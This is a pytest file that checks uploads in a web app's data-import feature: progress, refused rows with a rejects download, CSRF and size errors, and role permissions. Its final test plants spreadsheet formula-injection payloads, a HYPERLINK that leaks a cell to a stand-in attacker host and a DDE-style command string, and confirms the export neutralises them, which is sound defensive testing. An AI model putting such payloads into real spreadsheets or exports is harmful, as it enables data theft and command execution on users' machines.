"""Imports uploaded on the data page, over real HTTP against a running server, on SQLite
and PostgreSQL: progress to completion, refused files with their rows, who may import."""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.web.fixtures import serving, sign_in_over_http
from tocsin.events import count_events, parse_events
from tocsin.settings import Settings
from tocsin.speech import list_speech_items
from tocsin.store import Database, list_audit
from tocsin.web import WebSettings, _routes_imports, create_app

DATA = Path(__file__).parents[1] / "data"
UCDP = DATA / "events" / "ucdp_ged231_caf_2014.csv"
SPEECH = DATA / "speech" / "items.csv"
SPEECH_COLUMNS = (
    "text=body\npublished_date=day\ncountry=cc\nspeaker=who\nspeaker_role=role\n"
    "reach=followers\nurl=link\nexternal_id=post_id"
)


@pytest.fixture(scope="module")
def base_url(settings: Settings, home: Path) -> Iterator[str]:
    """The app served by uvicorn on a free port (plain HTTP, so cookies are not Secure)."""
    web = WebSettings(
        identity_keys=None,
        identity_key_file=home / "identity-keys.json",
        cookie_secure=False,
        page_cache_seconds=0,
    )
    app = create_app(settings, web)
    with serving(app) as url:
        yield url
    runner = app.state.tocsin.cache.get("import_runner")
    if runner is not None:
        runner.shutdown()
    app.state.tocsin.db.dispose()


class Browser:
    """A signed-in HTTP client that sends the page's CSRF token with its forms."""

    def __init__(self, base_url: str, username: str) -> None:
        self.http, self.csrf = sign_in_over_http(base_url, username)

    def upload(self, name: str, content: bytes, fmt: str, **fields: Any) -> httpx.Response:
        files = {"file": (name, content, "text/csv")}
        data = {"format": fmt, "csrf_token": self.csrf} | {
            k: str(v).lower() if isinstance(v, bool) else v for k, v in fields.items()
        }
        return self.http.post("/data/imports", data=data, files=files)

    def wait(self, location: str, timeout: float = 120) -> tuple[dict[str, Any], list[str]]:
        """Poll the job's progress until it finishes; the job and the states seen."""
        seen: list[str] = []
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            job: dict[str, Any] = self.http.get(f"{location}/status.json").json()
            if not seen or seen[-1] != job["status"]:
                seen.append(job["status"])
            if job["finished"]:
                return job, seen
            time.sleep(0.1)
        raise AssertionError(f"import {location} did not finish: states {seen}")


@pytest.fixture(scope="module")
def analyst(base_url: str) -> Iterator[Browser]:
    browser = Browser(base_url, "analyst")
    yield browser
    browser.http.close()


def test_an_analyst_uploads_events_and_watches_them_imported(
    analyst: Browser, settings: Settings
) -> None:
    expected = parse_events(UCDP.read_bytes(), "ucdp", file_name=UCDP.name)
    db = Database.from_settings(settings)
    with db.session() as session:
        before = count_events(session, dataset="ucdp_ged")

    response = analyst.upload(UCDP.name, UCDP.read_bytes(), "events:ucdp")
    assert response.status_code == 303
    location = response.headers["location"]
    assert re.fullmatch(r"/data/imports/\d+", location)
    page = analyst.http.get(location).text
    assert UCDP.name in page and 'id="import-status"' in page
    job, seen = analyst.wait(location)

    assert job["status"] == "done", job
    assert seen[-1] == "done" and set(seen) <= {"queued", "parsing", "storing", "done"}
    assert job["n_rows"] == job["n_done"] == len(expected.frame) > 100
    assert job["percent"] == 100.0 and job["import_id"] and job["problems"] == []
    assert job["summary"]["n_added"] == len(expected.frame)
    with db.session() as session:
        assert count_events(session, dataset="ucdp_ged") == before + len(expected.frame)
        actions = [(a.action, a.target) for a in list_audit(session, limit=50)]
    target = f"import_job:{job['id']}"
    assert ("data.import.upload", target) in actions and ("data.import.done", target) in actions
    db.dispose()

    finished = analyst.http.get(location).text  # no more polling once finished
    assert "hx-trigger" not in finished and "done" in finished
    data = analyst.http.get("/data.json").json()
    assert data["can_import"] and data["imports"][0]["id"] == job["id"]
    listed = analyst.http.get("/data").text
    assert f'<a href="{location}"><code>{UCDP.name}</code></a>' in listed
    assert {v["name"] for v in data["versions"]} >= {"pts", "vdem"} or data["versions"] == []

    again, _ = analyst.wait(
        analyst.upload(UCDP.name, UCDP.read_bytes(), "events:ucdp").headers["location"]
    )
    assert again["status"] == "done" and "Already imported" in (again["message"] or "")


def _corrupt(path: Path, bad: dict[int, tuple[str, str]]) -> tuple[bytes, set[tuple[int, str]]]:
    """The file with some values replaced (row index -> field, value), and their lines."""
    reader = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
    out = io.StringIO()
    writer = csv.DictWriter(out, reader.fieldnames or [], lineterminator="\n")
    writer.writeheader()
    lines: set[tuple[int, str]] = set()
    for index, row in enumerate(reader):
        if index in bad:
            field, value = bad[index]
            row[field] = value
            lines.add((reader.line_num, field))
        writer.writerow(row)
    return out.getvalue().encode(), lines


def test_a_refused_file_shows_each_bad_row_and_offers_the_rows_for_download(
    analyst: Browser, settings: Settings
) -> None:
    content, bad_lines = _corrupt(
        UCDP, {3: ("best", "many"), 10: ("latitude", "north"), 40: ("date_start", "2014-13-45")}
    )
    expected = parse_events(content, "ucdp", file_name="bad.csv")
    assert {(p.line, p.field) for p in expected.problems} == bad_lines  # what the CLI reports
    db = Database.from_settings(settings)
    with db.session() as session:
        before = count_events(session)

    location = analyst.upload("bad.csv", content, "events:ucdp").headers["location"]
    job, _ = analyst.wait(location)
    assert job["status"] == "refused" and job["n_problems"] == len(bad_lines)
    assert {(p["line"], p["field"]) for p in job["problems"]} == bad_lines
    assert {p["value"] for p in job["problems"]} == {"many", "north", "2014-13-45"}
    page = analyst.http.get(location).text
    for line, field in bad_lines:
        assert f'<td class="num">{line}</td><td><code>{field}</code></td>' in page
    assert job["rejects_url"] and job["rejects_url"] in page
    rejects = analyst.http.get(job["rejects_url"])
    assert rejects.status_code == 200 and rejects.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(rejects.text)))
    assert {int(r["line"]) for r in rows} == {line for line, _ in bad_lines}
    assert {r["best"] for r in rows} >= {"many"}
    with db.session() as session:
        assert count_events(session) == before  # refused whole: nothing stored
        actions = [(a.action, a.target) for a in list_audit(session, limit=50)]
    assert ("data.import.rejects_download", f"import_job:{job['id']}") in actions
    assert ("data.import.refused", f"import_job:{job['id']}") in actions

    skipped, _ = analyst.wait(
        analyst.upload("bad.csv", content, "events:ucdp", skip_invalid=True).headers["location"]
    )
    assert skipped["status"] == "done" and skipped["n_problems"] == len(bad_lines)
    assert skipped["summary"]["n_rejected"] == len(bad_lines) and skipped["rejects_url"]
    assert skipped["n_rows"] == len(expected.frame)
    db.dispose()


def test_speech_files_are_imported_or_refused_with_their_lines(
    analyst: Browser, settings: Settings
) -> None:
    fields = {"speech_columns": SPEECH_COLUMNS, "country_scheme": "iso2"}
    job, _ = analyst.wait(
        analyst.upload(SPEECH.name, SPEECH.read_bytes(), "speech:csv", **fields).headers["location"]
    )
    assert job["status"] == "done", job
    n_items = len(SPEECH.read_text().splitlines()) - 1
    assert job["summary"]["n_items"] == n_items and job["n_done"] == n_items
    db = Database.from_settings(settings)
    with db.session() as session:
        assert len(list_speech_items(session)) >= n_items
    db.dispose()

    text = SPEECH.read_text().replace(",KE,", ",QQ,", 1)
    refused, _ = analyst.wait(
        analyst.upload("bad_items.csv", text.encode(), "speech:csv", **fields).headers["location"]
    )
    assert refused["status"] == "refused"
    assert [(p["line"], p["field"], p["reason"]) for p in refused["problems"]] == [
        (2, "cc", "unknown country")
    ]
    rows = list(csv.DictReader(io.StringIO(analyst.http.get(refused["rejects_url"]).text)))
    assert [(r["line"], r["cc"]) for r in rows] == [("2", "QQ")]


def test_bad_uploads_get_clear_errors(analyst: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    forged = analyst.http.post(
        "/data/imports",
        data={"format": "events:ucdp"},
        files={"file": ("x.csv", UCDP.read_bytes(), "text/csv")},
    )
    assert forged.status_code == 403 and "CSRF" in forged.text
    wrong = analyst.upload("x.csv", b"a,b\n1,2\n", "events:nonsense")
    assert wrong.status_code == 422 and "is not one of" in wrong.text
    empty = analyst.upload("x.csv", b"  \n", "events:ucdp")
    assert empty.status_code == 422 and "empty" in empty.text
    monkeypatch.setattr(_routes_imports, "MAX_UPLOAD_BYTES", 100)
    big = analyst.upload("big.csv", b"x" * 101, "events:ucdp")
    assert big.status_code == 413 and "larger than" in big.text
    no_mapping, _ = analyst.wait(
        analyst.upload("m.csv", b"a,b\n1,2\n", "events:csv").headers["location"]
    )
    assert no_mapping["status"] == "refused" and "column mapping" in no_mapping["message"]


@pytest.mark.parametrize("username", ["viewer", "monitor", "reviewer"])
def test_roles_that_may_not_import_are_refused(
    base_url: str, analyst: Browser, username: str, request: pytest.FixtureRequest
) -> None:
    # the analyst's own job, so that the test does not rest on one run before it (with
    # tests spread over processes, the others may run elsewhere)
    analyst.wait(analyst.upload(UCDP.name, UCDP.read_bytes(), "events:ucdp").headers["location"])
    job_id = analyst.http.get("/data/imports.json").json()[0]["id"]
    other = Browser(base_url, username)
    request.addfinalizer(other.http.close)
    refused = other.upload(UCDP.name, UCDP.read_bytes(), "events:ucdp")
    assert refused.status_code == 403
    for path in (
        f"/data/imports/{job_id}",
        f"/data/imports/{job_id}/status.json",
        f"/data/imports/{job_id}/rejects.csv",
        "/data/imports.json",
    ):
        assert other.http.get(path).status_code == 403, path
    data = other.http.get("/data.json").json()
    assert data["can_import"] is False and data["imports"] == []
    assert 'action="/data/imports"' not in other.http.get("/data").text


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def test_the_rejected_rows_download_runs_no_planted_formula(
    analyst: Browser, settings: Settings
) -> None:
    reader = csv.DictReader(io.StringIO(UCDP.read_text(encoding="utf-8"), newline=""))
    out = io.StringIO()
    writer = csv.DictWriter(out, reader.fieldnames or [], lineterminator="\n")
    writer.writeheader()
    for index, row in enumerate(reader):
        if index == 3:
            row |= {"best": FORMULA, "where_description": "@SUM(1+1)*cmd|' /C calc'!A0"}
        if index == 5:
            row |= {"latitude": "north", "where_description": "-3", "adm_1": "+1 call me"}
        writer.writerow(row)
    location = analyst.upload("formula.csv", out.getvalue().encode(), "events:ucdp").headers[
        "location"
    ]
    job, _ = analyst.wait(location)
    assert job["status"] == "refused" and job["rejects_url"]
    rows = list(csv.DictReader(io.StringIO(analyst.http.get(job["rejects_url"]).text)))
    assert len(rows) == 2
    assert rows[0]["best"] == "'" + FORMULA
    assert rows[0]["where_description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1]["where_description"] == "-3"  # a plain number stays a number
    assert rows[1]["adm_1"] == "'+1 call me"
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@\t\r"]

    fields = {"speech_columns": SPEECH_COLUMNS, "country_scheme": "iso2"}
    text = (
        SPEECH.read_text()
        .replace("The council met today", "=1+2 The council met today", 1)
        .replace(",KE,", ",QQ,", 1)
    )
    refused, _ = analyst.wait(
        analyst.upload("formula_items.csv", text.encode(), "speech:csv", **fields).headers[
            "location"
        ]
    )
    assert refused["status"] == "refused"
    (item,) = csv.DictReader(io.StringIO(analyst.http.get(refused["rejects_url"]).text))
    assert item["body"].startswith("'=1+2 The council met today")
